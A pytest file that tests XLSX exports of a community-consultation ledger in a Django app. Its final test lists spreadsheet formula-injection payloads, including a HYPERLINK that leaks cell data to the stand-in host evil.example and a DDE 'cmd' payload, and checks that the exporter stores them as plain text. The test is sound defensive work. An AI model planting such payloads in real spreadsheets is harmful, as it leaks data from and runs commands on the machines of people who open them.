"""The ledger XLSX opens with openpyxl and says what the records say."""

from __future__ import annotations

import io
from datetime import date, datetime
from typing import Any

import pytest
from openpyxl import load_workbook

from yishi.ledger import exports, selectors

from .conftest import YEAR, client_for

pytestmark = pytest.mark.django_db


def _workbook(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data))


def _table(ws: Any, header_row: int = 1) -> list[dict[str, Any]]:
    rows = list(ws.iter_rows(min_row=header_row, values_only=True))
    head = rows[0]
    return [dict(zip(head, r, strict=False)) for r in rows[1:]]


def _summary(ws: Any) -> list[dict[str, Any]]:
    for i, row in enumerate(ws.iter_rows(values_only=True), start=1):
        if row[0] == "街道（乡镇）":
            return _table(ws, i)
    raise AssertionError("no summary table")


def test_the_community_ledger_has_a_sheet_per_record_kind_with_the_records(
        city: dict[str, Any], records: dict[str, Any]) -> None:
    wb = _workbook(exports.ledger_xlsx(city["a"], selectors.period(YEAR)))
    assert wb.sheetnames == ["汇总", "议题", "协商会议", "协商成果", "落实任务", "委托答复",
                             "会议日历", "逾期民情"]

    [summary] = _summary(wb["汇总"])
    assert summary["村（社区）"] == "幸福社区"
    assert summary["协商次数"] == 4  # the New Year's Eve meeting counts, New Year's Day not
    assert summary["最低次数"] == 4
    assert summary["是否达标"] in ("是", "Yes")
    assert summary["尚差次数"] == 0
    assert summary["逾期未答复民情"] == 2
    assert summary["逾期委托答复"] == 1
    assert summary["逾期落实任务"] == 1

    topics = _table(wb["议题"])
    assert {t["议题"] for t in topics} == {"楼道堆物清理", "加装电梯", "停车位划线", "元旦议题",
                                         "待开会议题", "取消的议题"}
    t2 = next(t for t in topics if t["议题"] == "停车位划线")
    assert t2["本年协商次数"] == 2
    assert t2["议题编号"] == records["t2"].pk
    assert isinstance(t2["提出时间"], datetime) and t2["提出时间"].date() == date(2025, 5, 20)

    meetings = _table(wb["协商会议"])
    held = [m for m in meetings if m["是否已召开"] in ("是", "Yes")]
    assert len(held) == 4
    assert len(meetings) == 5  # and the one scheduled in December that was never held
    eve = next(m for m in meetings if m["议题"] == "停车位划线" and m["第几次协商"] == 2)
    assert eve["召开时间"] == datetime(2025, 12, 31, 23, 0)
    assert wb["协商会议"].cell(row=2, column=6).number_format == "yyyy-mm-dd hh:mm"

    outcomes = _table(wb["协商成果"])
    assert sorted(o["议题"] for o in outcomes) == ["停车位划线", "加装电梯", "楼道堆物清理"]
    assert any(o["共识纪要或会议决定"] == "二次协商形成共识" for o in outcomes)

    overdue = _table(wb["逾期民情"])
    assert len(overdue) == 2
    assert all(o["逾期天数"] > 0 for o in overdue)
    assert wb["议题"].column_dimensions["C"].width > 20


def test_the_summary_heading_defines_a_consultation_and_the_minimum(
        city: dict[str, Any], records: dict[str, Any]) -> None:
    wb = _workbook(exports.ledger_xlsx(city["a"], selectors.period(YEAR)))
    heading = "\n".join(str(r[0]) for r in wb["汇总"].iter_rows(max_row=4, values_only=True))
    assert "2025年" in heading and "幸福社区" in heading
    assert "不少于4次" in heading
    assert "二次协商另计一次" in heading


def test_a_street_ledger_lists_each_community_and_flags_the_one_below_the_minimum(
        city: dict[str, Any], records: dict[str, Any]) -> None:
    wb = _workbook(exports.ledger_xlsx(city["street"], selectors.period(YEAR)))
    summary = {r["村（社区）"]: r for r in _summary(wb["汇总"])}
    assert set(summary) == {"幸福社区", "桃园村"}  # not 远方社区 of the other street
    assert summary["桃园村"]["协商次数"] == 3
    assert summary["桃园村"]["是否达标"] in ("否", "No")
    assert summary["桃园村"]["尚差次数"] == 1
    meetings = _table(wb["协商会议"])
    assert {m["村（社区）"] for m in meetings} == {"幸福社区", "桃园村"}


def test_the_download_link_serves_the_same_workbook(
        city: dict[str, Any], records: dict[str, Any], users: dict[str, Any]) -> None:
    r = client_for("staff_a").get(f"/ledger/communities/{city['a'].pk}/{YEAR}/ledger.xlsx")
    assert r.status_code == 200
    assert "attachment" in r["Content-Disposition"]
    assert "filename*=UTF-8''" in r["Content-Disposition"]
    wb = _workbook(r.content)
    assert _summary(wb["汇总"])[0]["协商次数"] == 4


def test_tasks_and_entrusted_answers_are_in_the_ledger_with_their_overdue_marks(
        city: dict[str, Any], records: dict[str, Any]) -> None:
    wb = _workbook(exports.ledger_xlsx(city["a"], selectors.period(YEAR)))
    tasks = {t["落实任务"]: t for t in _table(wb["落实任务"])}
    assert set(tasks) == {"安装电梯井道", "公示施工单位"}
    late = tasks["安装电梯井道"]
    assert late["是否逾期"] in ("是", "Yes") and late["逾期天数"] > 300
    assert late["完成期限"].date() == date(2025, 6, 30)
    assert tasks["公示施工单位"]["是否逾期"] in ("否", "No")

    answers = {a["议题"]: a for a in _table(wb["委托答复"])}
    assert answers["楼道堆物清理"]["委托单位"] == "和平街道"
    assert answers["楼道堆物清理"]["是否逾期"] in ("是", "Yes")
    assert answers["停车位划线"]["逾期天数"] == 5  # answered 9-20, due 9-15
    assert answers["停车位划线"]["书面答复日期"].date() == date(2025, 9, 20)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def test_text_that_looks_like_a_formula_is_written_as_text(
        city: dict[str, Any], records: dict[str, Any]) -> None:
    from . import builders as b

    for i, title in enumerate(FORMULAS):
        b.consultation(city["a"], b.at(2025, 8, 1 + i), title=title)
    b.task(records["t1"], records["t1"].outcome, title="=1+2", deadline=date(2025, 8, 30))
    data = exports.ledger_xlsx(city["a"], selectors.period(YEAR))
    wb = _workbook(data)
    cells = {c.value: c for row in wb["议题"].iter_rows(min_row=2) for c in row
             if isinstance(c.value, str) and c.value.startswith("'")}
    for title in FORMULAS:
        cell = cells["'" + title]
        assert cell.data_type == "s", title
    task_titles = [c for row in wb["落实任务"].iter_rows(min_row=2) for c in row
                   if c.value == "'=1+2"]
    assert task_titles and task_titles[0].data_type == "s"
    # No cell anywhere in the workbook is a formula.
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
    # And the sheet XML holds no <f> element at all.
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    # Ordinary text, numbers and dates pass unchanged.
    topics = _table(wb["议题"])
    assert any(t["议题"] == "加装电梯" for t in topics)
    assert all(isinstance(t["议题编号"], int) for t in topics)
